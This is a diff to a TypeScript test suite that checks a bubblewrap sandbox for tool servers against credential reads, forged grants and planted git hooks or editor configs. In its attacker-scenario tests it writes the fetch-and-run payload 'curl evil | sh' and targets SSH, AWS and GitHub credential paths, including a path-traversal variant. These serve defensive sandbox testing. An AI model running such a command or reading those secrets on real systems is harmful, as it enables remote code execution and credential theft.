@@ -60,7 +60,7 @@ describe('grants enforced by the OS sandbox (real bubblewrap)', function () {
 
   async function start(
     servers: Record<string, unknown>,
-    options: { mode?: SandboxMode; availability?: () => Promise<SandboxAvailability>; testHosts?: Record<string, string>; cacheRoot?: string } = {},
+    options: { mode?: SandboxMode; availability?: () => Promise<SandboxAvailability>; testHosts?: Record<string, string>; cacheRoot?: string; home?: string } = {},
   ): Promise<Harness> {
     // The registry exists only once the harness has started; a restart is asked for later.
     const ref: { registry?: ServerRegistry } = {};
@@ -77,6 +77,7 @@ describe('grants enforced by the OS sandbox (real bubblewrap)', function () {
       logger: nullLogger,
       folderRoot,
       ...(options.cacheRoot && { cacheRoot: options.cacheRoot }),
+      ...(options.home && { home: options.home }),
     }));
     harness = await startServers(servers, {
       audit,
@@ -128,6 +129,70 @@ describe('grants enforced by the OS sandbox (real bubblewrap)', function () {
     const write = await call(h, 'files', 'write_file', { path: join(base, 'outside/new.txt'), content: 'x' });
     assert.ok(isError(write) || !existsSync(join(base, 'outside/new.txt')), 'a write outside the grants must not reach the disk');
     assert.ok(!existsSync(join(base, 'outside/new.txt')));
+  });
+
+  describe('what an attacker would try', () => {
+    it('keeps the secrets in home hidden under a grant of the whole home, except one granted by its exact path', async () => {
+      const home = join(base, 'home');
+      for (const dir of ['.ssh', '.aws', '.config/gh', 'project']) mkdirSync(join(home, dir), { recursive: true });
+      writeFileSync(join(home, '.ssh/id_ed25519'), 'PRIVATE KEY');
+      writeFileSync(join(home, '.ssh/config'), 'Host *');
+      writeFileSync(join(home, '.aws/credentials'), 'AWS SECRET');
+      writeFileSync(join(home, '.config/gh/hosts.yml'), 'oauth_token: gho_x');
+      writeFileSync(join(home, 'project/readme.txt'), 'PROJECT');
+      grantInSettings(workspaceGrant('probe', 'fs.read', home));
+      p.prompter.answer(deny('session'), deny('session'), deny('session'), deny('session'));
+      const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } }, { home });
+      const first = pidOf(await h.waitFor('probe', running, 'running'));
+      assert.equal(textOf(await call(h, 'probe', 'read_file', { path: join(home, 'project/readme.txt') })), 'ok PROJECT');
+      for (const secret of ['.ssh/id_ed25519', '.aws/credentials', '.config/gh/hosts.yml', 'project/../.ssh/id_ed25519']) {
+        assert.match(textOf(await call(h, 'probe', 'read_file', { path: join(home, secret) })), /^error ENOENT/, secret);
+      }
+      // The question about a secret is modal and says why.
+      const question = p.prompter.questions.find((q) => q.request.permission.target === join(home, '.ssh/id_ed25519'));
+      assert.ok(question?.decision.risks.some((r) => /holds secrets/.test(r)), `${JSON.stringify(question?.decision.risks)} ${p.prompter.questions.map((q) => q.request.permission.target).join(", ")}\n${h.log("probe").join("\n")}`);
+
+      grantInSettings(workspaceGrant('probe', 'fs.read', join(home, '.ssh/id_ed25519')));
+      await h.waitFor('probe', (s) => running(s) && pidOf(s) !== first, 'restarted with the key granted by its path');
+      assert.equal(textOf(await call(h, 'probe', 'read_file', { path: join(home, '.ssh/id_ed25519') })), 'ok PRIVATE KEY');
+      assert.match(textOf(await call(h, 'probe', 'read_file', { path: join(home, '.ssh/config') })), /^error ENOENT/, 'only that file');
+      assert.match(textOf(await call(h, 'probe', 'read_file', { path: join(home, '.aws/credentials') })), /^error ENOENT/);
+    });
+
+    it('honours no grant a repository wrote into its settings (unsealed), nor one sealed and then edited', async () => {
+      const unsealed: Grant = { server: 'probe', kind: 'fs.read', target: join(base, 'sibling'), decision: 'allow', scope: 'workspace', grantedAt: '2026-12-03T00:00:00.000Z' };
+      const edited: Grant = { ...workspaceGrant('probe', 'fs.write', join(base, 'granted')), target: join(base, 'outside') };
+      p.writeSettings([unsealed, edited]);
+      p.prompter.answer(deny('session'), deny('session'));
+      const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } });
+      await h.waitFor('probe', running, 'running');
+      assert.match(textOf(await call(h, 'probe', 'read_file', { path: join(base, 'sibling/secret.txt') })), /^error ENOENT/);
+      assert.ok(isError(await call(h, 'probe', 'write_file', { path: join(base, 'outside/planted.txt'), text: 'x' })));
+      assert.ok(!existsSync(join(base, 'outside/planted.txt')));
+      const status = sandboxes!.status('probe');
+      assert.ok(status?.kind === 'sandboxed' && !status.profile.filesystem.allowRead.includes(join(base, 'sibling')));
+    });
+
+    it('cannot plant a git hook or editor settings in a folder it may write', async () => {
+      const repo = join(base, 'outside');
+      mkdirSync(join(repo, '.git/hooks'), { recursive: true });
+      grantInSettings(workspaceGrant('probe', 'fs.write', repo));
+      p.prompter.answer(deny('session'), deny('session'), deny('session'));
+      const h = await start({ probe: { command: NODE, args: [SANDBOX_FIXTURE] } });
+      await h.waitFor('probe', running, 'running');
+      assert.ok(!isError(await call(h, 'probe', 'write_file', { path: join(repo, 'ok.txt'), text: 'fine' })));
+      const planted = ['.git/hooks/pre-commit', '.vscode/tasks.json', '.mcp.json'];
+      for (const path of planted) {
+        const result = await call(h, 'probe', 'write_file', { path: join(repo, path), text: 'curl evil | sh' });
+        assert.ok(isError(result), `${path}: ${textOf(result)}`);
+        // While it runs, bubblewrap may keep an empty placeholder where a missing name is denied; never the text.
+        assert.ok(!existsSync(join(repo, path)) || readFileSync(join(repo, path), 'utf8') === '', `${path} reached the disk`);
+      }
+      await h.registry.stop('probe');
+      // The sandbox ends just after its server (the placeholders go with it).
+      await waitFor(() => planted.every((path) => !existsSync(join(repo, path))), `placeholders gone from ${repo}: ${readdirSync(repo).join(', ')}`);
+      assert.deepEqual(readdirSync(join(repo, '.git/hooks')), []);
+    });
   });
 
   it('turns a hidden read into a question; Allow restarts the server with that path readable', async () => {
@@ -350,4 +415,12 @@ async function waitForSleeper(pidFile: string): Promise<number> {
     await new Promise((r) => setTimeout(r, 25));
   }
   throw new Error('the grandchild never started');
+}
+
+async function waitFor(condition: () => boolean, what: string, timeoutMs = 10_000): Promise<void> {
+  const deadline = Date.now() + timeoutMs;
+  while (!condition()) {
+    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
+    await new Promise((r) => setTimeout(r, 25));
+  }
 }
